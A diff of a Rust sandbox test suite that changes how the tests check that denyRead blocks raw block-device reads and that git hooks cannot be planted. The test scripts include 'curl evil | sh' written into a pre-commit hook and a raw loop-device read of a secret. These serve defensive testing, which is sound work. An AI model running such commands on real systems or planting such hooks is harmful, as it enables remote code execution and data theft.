@@ -619,32 +619,52 @@ fn deny_read_survives_hard_links() {
 }
 
 /// As root, a block device reads any file: with denyRead set, they are
-/// unreadable too.
+/// unreadable too. The device here is a loop device over a file holding
+/// the secret (the host's own disk may be closed to containers).
 #[test]
 fn deny_read_covers_raw_block_devices() {
     require_sandbox!("deny_read_covers_raw_block_devices");
-    // One that reads (an unattached loop device reads nothing).
-    let dev = std::fs::read_dir("/dev")
-        .unwrap()
-        .flatten()
-        .map(|e| e.path())
-        .find(|p| {
-            use std::io::Read;
-            std::fs::metadata(p)
-                .is_ok_and(|m| std::os::unix::fs::FileTypeExt::is_block_device(&m.file_type()))
-                && std::fs::File::open(p).is_ok_and(|mut f| f.read_exact(&mut [0u8; 512]).is_ok())
-        });
-    let Some(dev) = dev else {
+    if !am_root() {
         return skip(
             "deny_read_covers_raw_block_devices",
-            "no readable block device here",
+            "needs root (a loop device)",
+        );
+    }
+    let image = lab("blockdev-image", Who::Me).outside.join("disk.img");
+    std::fs::write(&image, "s3cret-on-disk\n").unwrap();
+    // Whole sectors, or the device is empty.
+    std::fs::File::options()
+        .write(true)
+        .open(&image)
+        .unwrap()
+        .set_len(1 << 20)
+        .unwrap();
+    let attach = Command::new("losetup")
+        .args(["-f", "--show"])
+        .arg(&image)
+        .output();
+    let Some(dev) = attach
+        .ok()
+        .filter(|o| o.status.success())
+        .map(|o| stdout(&o).trim().to_string())
+    else {
+        return skip(
+            "deny_read_covers_raw_block_devices",
+            "cannot attach a loop device (losetup)",
         );
     };
-    let script = format!("head -c 512 {} | wc -c", dev.display());
+    struct Detach(String);
+    impl Drop for Detach {
+        fn drop(&mut self) {
+            let _ = Command::new("losetup").args(["-d", &self.0]).status();
+        }
+    }
+    let _detach = Detach(dev.clone());
+    let script = format!("head -c 64 {dev}");
     Attack::new("blockdev", &script)
         .setup(secrets)
         .policy(hide)
-        .escaped(|_, out| stdout(out).trim() == "512")
+        .escaped(|_, out| stdout(out).contains("s3cret-on-disk"))
         .needs_root()
         .run();
 }
@@ -939,7 +959,7 @@ fn a_git_dir_swapped_for_a_symlink_never_moves_tern_outside() {
 #[test]
 fn an_immutable_hook_cannot_be_planted() {
     require_sandbox!("an_immutable_hook_cannot_be_planted");
-    let probe = probe_binary();
+    let probe = support::lab::probe_binary();
     let script = format!(
         "echo 'curl evil | sh' > .git/hooks/pre-commit; {probe} chattr .git/hooks/pre-commit"
     );
@@ -960,28 +980,6 @@ fn an_immutable_hook_cannot_be_planted() {
         })
         .needs_root()
         .run();
-}
-
-/// The C probe of tests/fixtures/sandbox_probe.c, built once.
-fn probe_binary() -> String {
-    static BUILT: std::sync::OnceLock<String> = std::sync::OnceLock::new();
-    BUILT
-        .get_or_init(|| {
-            let out = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("sandbox_probe");
-            let src = concat!(
-                env!("CARGO_MANIFEST_DIR"),
-                "/tests/fixtures/sandbox_probe.c"
-            );
-            let ok = Command::new("cc")
-                .args(["-O1", "-o"])
-                .arg(&out)
-                .arg(src)
-                .status()
-                .is_ok_and(|s| s.success());
-            assert!(ok, "cannot build {src} with cc");
-            out.display().to_string()
-        })
-        .clone()
 }
 
 #[test]
@@ -1098,13 +1096,13 @@ fn the_sandbox_fails_closed() {
     }
     // A kernel without landlock, simulated by a filter that answers its
     // syscalls with ENOSYS: refused with failIfUnavailable, and said.
-    let probe = probe_binary();
+    let probe = support::lab::probe_binary();
     for strict in [false, true] {
         let lab = lab("no-landlock", Who::Me);
         let mut p = lab.policy();
         p.fail_if_unavailable = strict;
         p.namespaces = false;
-        let (cmd, _) = p
+        let (cmd, _end, _) = p
             .prepare(
                 std::path::Path::new(tern_bin()),
                 "/bin/bash",
